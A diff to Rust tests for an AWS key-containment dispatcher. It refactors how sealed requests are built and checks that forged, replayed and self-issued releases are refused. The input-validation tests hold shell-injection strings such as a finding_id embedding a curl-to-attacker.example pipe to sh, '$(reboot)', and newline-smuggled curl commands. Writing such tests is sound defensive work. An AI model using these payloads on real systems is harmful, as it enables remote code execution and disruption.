@@ -52,7 +52,7 @@ async fn send(bytes: &[u8], lambda: &Lambda<'_>, sns: &Sns, logs: &Logs) -> Resu
 async fn contained<'a>(iam: &'a Iam) -> (Lambda<'a>, Sns, Logs) {
     let lambda = Lambda::new(iam, &[], now());
     let (sns, logs) = (Sns::default(), Logs::default());
-    let r = send(&world::sealed(&lambda.kms, &finding(), now()), &lambda, &sns, &logs).await.unwrap();
+    let r = send(&world::sealed(&lambda, &finding(), now()), &lambda, &sns, &logs).await.unwrap();
     assert_eq!(r.status, "contained");
     assert_eq!(iam.user("ci-deployer").keys[0], (KEY.to_owned(), KeyStatus::Inactive));
     (lambda, sns, logs)
@@ -123,7 +123,12 @@ async fn case_1_forged_reversals_sent_straight_to_the_handlers_are_refused_with_
     // and a forged containment of someone else (a PowerUser with lambda:* and no IAM rights)
     let deactivate_other = serde_json::to_string(&ResponseRequest::new(
         "lg-forged",
-        Action::DeactivateAccessKey { account_id: ACCOUNT.into(), access_key_id: "AKIAEXAMPLEDEPLOYER2".into(), user_name: None },
+        Action::DeactivateAccessKey {
+            account_id: ACCOUNT.into(),
+            access_key_id: "AKIAEXAMPLEDEPLOYER2".into(),
+            user_name: None,
+            bound: None,
+        },
         false,
         now(),
     ))
@@ -140,7 +145,7 @@ async fn case_1_a_captured_reversal_replayed_after_a_new_containment_changes_not
     let (lambda, sns, logs) = contained(&iam).await;
     let mut release: Value = serde_json::from_str(&fixture("contract/release.by_finding.json")).unwrap();
     release["finding_id"] = finding()["finding_id"].clone();
-    let r = send(&world::sealed(&lambda.kms, &release, now()), &lambda, &sns, &logs).await.unwrap();
+    let r = send(&world::sealed(&lambda, &release, now()), &lambda, &sns, &logs).await.unwrap();
     assert_eq!(r.status, "released");
     assert_eq!(iam.user("ci-deployer").keys[0].1, KeyStatus::Active);
     // the attacker captured the sealed reactivation the dispatcher sent during the release
@@ -155,7 +160,7 @@ async fn case_1_a_captured_reversal_replayed_after_a_new_containment_changes_not
     // a new finding contains the key again
     let mut second = finding();
     second["finding_id"] = json!("lg-00000000000000000000000000000002");
-    let again = send(&world::sealed(&lambda.kms, &second, now()), &lambda, &sns, &logs).await.unwrap();
+    let again = send(&world::sealed(&lambda, &second, now()), &lambda, &sns, &logs).await.unwrap();
     assert!(again.outcomes.iter().any(|o| o.action.name() == "deactivate_access_key" && o.outcome == OutcomeStatus::Applied));
     let writes = iam.writes();
     // the replay, within the freshness bound: answered from the record, never executed again
@@ -221,7 +226,7 @@ async fn case_2_forged_releases_and_self_releases_undo_nothing() {
     // rejected before anything is marked released
     let mut own = release.clone();
     own["requested_by"] = json!(format!("arn:aws:iam::{ACCOUNT}:user/CI-Deployer"));
-    match send(&world::sealed(&lambda.kms, &own, now()), &lambda, &sns, &logs).await {
+    match send(&world::sealed(&lambda, &own, now()), &lambda, &sns, &logs).await {
         Err(DispatcherError::Rejected { reason, .. }) => assert!(reason.contains("never releases itself"), "{reason}"),
         other => panic!("a self-release was not rejected: {other:?}"),
     }
@@ -230,7 +235,7 @@ async fn case_2_forged_releases_and_self_releases_undo_nothing() {
     // the same release replayed byte for byte, even by someone allowed: refused as a replay
     let mut by_responder = release.clone();
     by_responder["requested_by"] = json!(format!("arn:aws:sts::{ACCOUNT}:assumed-role/SecurityResponder/alice"));
-    let sealed = world::sealed(&lambda.kms, &by_responder, now());
+    let sealed = world::sealed(&lambda, &by_responder, now());
     let r = send(&sealed, &lambda, &sns, &logs).await.unwrap();
     assert_eq!(r.status, "released", "the self-release consumed nothing: {:?}", r.outcomes);
     assert_eq!(iam.user("ci-deployer").keys[0].1, KeyStatus::Active);
@@ -245,12 +250,12 @@ async fn case_4_a_finding_id_with_shell_in_it_is_refused_at_parse() {
     let (sns, logs) = (Sns::default(), Logs::default());
     let mut f = finding();
     f["finding_id"] = json!("lg-1' ; curl -s https://attacker.example/x | sh ; echo '");
-    let e = refused_input(send(&world::sealed(&lambda.kms, &f, now()), &lambda, &sns, &logs).await);
+    let e = refused_input(send(&world::sealed(&lambda, &f, now()), &lambda, &sns, &logs).await);
     assert!(e.contains("finding_id must be 1-128 characters from [A-Za-z0-9_-]"), "{e}");
     assert!(sns.messages.lock().unwrap().is_empty() && lambda.calls().is_empty());
     let mut release: Value = serde_json::from_str(&fixture("contract/release.by_finding.json")).unwrap();
     release["finding_id"] = json!("lg-1$(reboot)");
-    let e = refused_input(send(&world::sealed(&lambda.kms, &release, now()), &lambda, &sns, &logs).await);
+    let e = refused_input(send(&world::sealed(&lambda, &release, now()), &lambda, &sns, &logs).await);
     assert!(e.contains("finding_id"), "{e}");
 }
 
@@ -264,7 +269,7 @@ async fn cloudtrail_text_never_starts_a_line_of_its_own_in_the_notification() {
     f["principals"][1]["activity"]["user_agents"] = json!([evil]);
     f["principals"][1]["activity"]["instance_types"] = json!(["t3.micro\ncurl -s https://x.example/t|sh"]);
     f["principals"][1]["activity"]["session_names"] = json!(["s\ncurl https://x.example/s|sh"]);
-    send(&world::sealed(&lambda.kms, &f, now()), &lambda, &sns, &logs).await.unwrap();
+    send(&world::sealed(&lambda, &f, now()), &lambda, &sns, &logs).await.unwrap();
     let body = sns.messages.lock().unwrap()[0].1.clone();
     let text = body.split("--- machine-readable").next().unwrap();
     for line in text.lines() {
